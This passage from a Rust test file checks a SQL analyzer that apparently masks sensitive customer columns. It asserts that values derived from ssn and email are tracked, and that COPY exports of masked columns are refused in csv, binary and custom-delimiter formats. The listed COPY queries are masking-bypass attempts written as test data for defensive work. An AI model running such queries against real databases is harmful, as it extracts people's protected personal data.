        known("SELECT ARRAY(SELECT ssn FROM customers)"),
        vec![derived(&[1])]
    );
    assert_eq!(
        known("SELECT json_object('k': email) FROM customers"),
        vec![derived(&[0])]
    );
}

#[test]
fn copy_of_masked_columns_is_refused_outside_the_default_text_format() {
    let schema = schema();
    for sql in [
        "COPY customers TO STDOUT WITH (FORMAT csv)",
        "COPY customers TO STDOUT WITH (DELIMITER ',')",
        "COPY customers (email) TO STDOUT (FORMAT binary)",
        "COPY customers TO STDOUT CSV",
    ] {
        let l = analyze(sql, &schema);
        assert!(
            l[0].refusal
                .as_deref()
                .is_some_and(|r| r.contains("default text format")),
            "{sql}: {:?}",
            l[0].refusal
        );
    }
    for sql in [
        "COPY customers TO STDOUT",
        "COPY customers TO STDOUT (FORMAT text)",
        "COPY orders TO STDOUT WITH (FORMAT csv)",
    ] {
        assert_eq!(analyze(sql, &schema)[0].refusal, None, "{sql}");
    }
}
